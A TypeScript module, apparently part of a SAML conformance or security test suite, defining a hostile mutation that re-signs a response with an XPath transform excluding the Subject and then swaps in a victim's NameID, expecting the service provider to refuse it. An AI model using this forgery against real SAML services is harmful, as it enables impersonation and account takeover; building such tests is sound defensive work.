import { defineMutation, type MutationContext } from '../../model/mutation.ts';
import { digestText } from '../../saml/algorithms.ts';
import { ALG, NS } from '../../saml/namespaces.ts';
import { refs } from '../kit/attack-refs.ts';
import { removeElement, setText } from '../kit/edit.ts';
import { bySigner, canonicalText, type Signable, signAgain } from '../kit/forge.ts';

const filter = {
  algorithm: 'http://www.w3.org/TR/1999/REC-xpath-19991116',
  content: `<ds:XPath xmlns:saml="${NS.saml}">not(ancestor-or-self::saml:Subject)</ds:XPath>`,
};

/** Canonical text of an element without the Subject. */
function withoutSubject({ xml, path }: Signable): string {
  return canonicalText(removeElement(xml, 'Assertion/Subject'), path);
}

function sign(xml: string, context: MutationContext): string {
  return signAgain(xml, {
    parts: (signable) => ({
      references: [
        {
          uri: `#${signable.id}`,
          transforms: [ALG.enveloped, filter, ALG.excC14n],
          digestValues: [digestText(ALG.sha256, withoutSubject(signable))],
        },
      ],
    }),
    fill: bySigner(context, 'idp'),
  });
}

export default defineMutation({
  id: 'transforms/xpath',
  title: 'An XPath transform leaves the Subject out, and it is changed',
  stage: 'after-signing',
  change: {
    on: 'response',
    apply: (xml, context) => setText(sign(xml, context), 'Subject/NameID', context.victim.nameId),
  },
  breaks: ['signature/transforms', 'subject/user-name'],
  hostile: true,
  safe: 'refuses',
  refs: [refs.twoTransforms, refs.onlySignedIsSecure],
  attack: {
    against: 'sp',
    mechanism:
      'The identity provider’s signature has a transform by XPath that leaves the Subject out of what is digested. The victim is written into it afterwards.',
    weakness: ['any-transform'],
  },
});
